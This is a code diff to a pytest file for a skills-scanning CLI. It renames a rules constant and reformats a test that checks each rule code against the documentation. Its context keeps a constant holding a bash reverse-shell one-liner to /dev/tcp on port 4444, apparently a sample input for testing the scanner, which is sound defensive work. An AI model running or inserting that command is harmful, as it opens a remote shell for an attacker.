@@ -5,7 +5,7 @@ from pathlib import Path
 
 import pytest
 
-from skills_runtime.skills.scan import RULES
+from skills_runtime.skills.scan import SCAN_RULES
 from tests.e2e.cli.programs import invoke
 
 HARM = "bash -i >& /dev/tcp/240.13.37.9/4444 0>&1\n"
@@ -77,4 +77,6 @@ def test_options_that_do_not_go_together_are_refused(arguments: tuple[str, ...])
 def test_every_code_is_in_the_documentation() -> None:
     page = (Path(__file__).parents[3] / "docs" / "how-to" / "scan-skills.md").read_text(encoding="utf-8")
 
-    assert [code for code, rule in RULES.items() if f"| {code} | {rule.severity} | {rule.title} |" not in page] == []
+    assert [
+        code for code, rule in SCAN_RULES.items() if f"| {code} | {rule.severity} | {rule.title} |" not in page
+    ] == []
